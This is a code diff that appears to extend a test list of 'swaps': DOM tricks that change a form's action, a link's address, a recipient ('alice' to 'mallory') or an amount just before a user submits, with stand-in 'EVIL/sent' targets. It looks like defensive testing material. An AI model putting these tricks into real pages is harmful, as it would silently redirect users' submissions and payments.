@@ -121,6 +121,53 @@ export const swaps: readonly Swap[] = [
     form('<input type="image" alt="Send it" id="b" src="data:," width="60" height="20">'),
     'b.setAttribute("formaction", "EVIL/sent")',
   ),
+  send(
+    "the value of a custom element",
+    `<script>customElements.define("x-to", class extends HTMLElement { static formAssociated = true; constructor() { super(); this.inner = this.attachInternals(); this.inner.setFormValue("alice") } })</script>${form(`<x-to name="to" id="x"></x-to>${button}`)}`,
+    'x.inner.setFormValue("mallory")',
+  ),
+  send(
+    "a group of hidden fields",
+    form(`<fieldset disabled id="g" style="display:none"><input name="to" value="mallory"></fieldset>${button}`),
+    "g.disabled = false",
+  ),
+  send(
+    "a hidden text area",
+    form(`<textarea name="to" hidden id="h">alice</textarea>${button}`),
+    'h.value = "mallory"',
+  ),
+  send(
+    "a hidden list",
+    form(`<select multiple name="to" hidden id="h"><option selected>a<option>b</select>${button}`),
+    "h.options[1].selected = true",
+  ),
+  send(
+    "the address of the page, of a form without an action",
+    `<form method="post">${button}</form>`,
+    'history.replaceState(null, "", "/sent?evil")',
+  ),
+  send(
+    "a hidden field in a shadow root",
+    '<x-a id="h"></x-a><script>h.attachShadow({ mode: "open" }).innerHTML = `<form action="/sent" method="post"><input type="hidden" name="to" value="alice"><button>Send it</button></form>`</script>',
+    'h.shadowRoot.querySelector("input").value = "mallory"',
+  ),
+  send(
+    "the form of a button in a shadow root",
+    '<x-a id="h"></x-a><script>h.attachShadow({ mode: "open" }).innerHTML = `<form id="f" action="/sent" method="post"></form><form id="g" action="/sent?g" method="post"></form><button form="f">Send it</button>`</script>',
+    'h.shadowRoot.querySelector("button").setAttribute("form", "g")',
+  ),
+  send(
+    "a link around a button that sends nothing",
+    '<div id="w"><button type="button" id="b">Send it</button></div>',
+    'const a = document.createElement("a"); a.href = "EVIL/sent"; w.before(a); a.append(w)',
+  ),
+  send(
+    "the action, in a form whose fields have the names of its properties",
+    form(
+      `${["method", "target", "attributes", "enctype", "ownerDocument", "baseURI", "parentNode"].map((name) => `<input type="hidden" name="${name}" value="x">`).join("")}${button}`,
+    ),
+    'f.setAttribute("action", "EVIL/sent")',
+  ),
   send("words in the label", plain, 'b.textContent = "Send it twice"'),
   send("the action, on mousedown", plain, on("mousedown", 'f.action = "EVIL/sent"')),
   send("a hidden amount, on pointerdown", hidden, on("pointerdown", 'f.elements.amount.value = "1000"')),
@@ -146,6 +193,17 @@ export const swaps: readonly Swap[] = [
     'b.setAttribute("href", "EVIL/sent")',
   ),
   follow(
+    "the animated address of a link in a drawing",
+    '<svg width="200" height="30"><a id="b" href="/sent"><text y="20">Read more</text></a></svg>',
+    'const set = document.createElementNS("http://www.w3.org/2000/svg", "set"); set.setAttribute("attributeName", "href"); set.setAttribute("to", "EVIL/sent"); b.append(set)',
+  ),
+  follow(
+    "an area of an image",
+    '<map name="m"><area id="b" shape="rect" coords="0,0,200,50" href="/sent" alt="Read more"></map><img usemap="#m" width="200" height="50" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">',
+    'b.href = "EVIL/sent"',
+  ),
+  follow("a report to an advertiser", link, 'b.setAttribute("attributionsrc", "EVIL/sent")'),
+  follow(
     "a link in a shadow root",
     '<x-a id="h"></x-a><script>h.attachShadow({ mode: "open" }).innerHTML = `<a href="/sent">Read more</a>`</script>',
     'h.shadowRoot.querySelector("a").href = "EVIL/sent"',
@@ -159,5 +217,16 @@ export const swaps: readonly Swap[] = [
     plain,
     'f.insertAdjacentHTML("afterbegin", `<button name="do" value="pay">Pay</button>`)',
   ),
+  enter(
+    "Enter: a button that was disabled",
+    form(`<button id="c" name="do" value="pay" disabled>Pay</button>${button}`),
+    "c.disabled = false",
+  ),
+  enter(
+    "Enter: the form of the field",
+    `<form id="f" action="/sent" method="post"></form>${other}<label>Note <input name="note" id="n" form="f"></label>`,
+    'n.setAttribute("form", "g")',
+  ),
+  enter("Enter: the action, on keypress", plain, on("keypress", 'f.action = "EVIL/sent"')),
   enter("Enter: the action, on keydown", plain, on("keydown", 'f.action = "EVIL/sent"')),
 ];
